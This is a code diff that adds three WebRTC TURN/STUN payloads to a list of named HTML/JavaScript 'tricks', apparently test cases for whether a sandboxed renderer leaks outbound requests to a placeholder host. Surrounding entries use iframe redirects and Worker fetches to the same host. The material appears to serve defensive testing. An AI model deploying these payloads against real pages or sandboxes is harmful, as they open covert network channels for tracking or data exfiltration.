@@ -123,6 +123,28 @@ TRICKS = (
         "<iframe srcdoc=\"<script>location.href='http://' + '@IP@/t31'</script>\"></iframe>",
     ),
     Trick(
+        "webrtc-turn-tcp",
+        "<script>var pc = new RTCPeerConnection({iceServers: [{urls: "
+        "'turn:@IP@?transport=tcp', username: 'u', credential: 'c'}, {urls: "
+        "'stun:@IP@'}]}); pc.createDataChannel('x'); pc.createOffer()"
+        ".then(function (o) { return pc.setLocalDescription(o) })</script>",
+    ),
+    Trick(
+        "webrtc-in-new-frame",
+        "<script>var f = document.createElement('iframe'); document.body.append(f);"
+        "var pc = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: "
+        "'turn:@IP@?transport=tcp', username: 'u', credential: 'c'}]});"
+        "pc.createDataChannel('x'); pc.createOffer()"
+        ".then(function (o) { return pc.setLocalDescription(o) })</script>",
+    ),
+    Trick(
+        "webrtc-in-parsed-frame",
+        "<iframe></iframe><script>var pc = new frames[0].RTCPeerConnection({iceServers: "
+        "[{urls: 'turn:@IP@?transport=tcp', username: 'u', credential: 'c'}]});"
+        "pc.createDataChannel('x'); pc.createOffer()"
+        ".then(function (o) { return pc.setLocalDescription(o) })</script>",
+    ),
+    Trick(
         "worker-fetch",
         "<script>new Worker(URL.createObjectURL(new Blob(["
         "\"fetch('http://' + '@IP@/t29').catch(function () {})\"])))</script>",
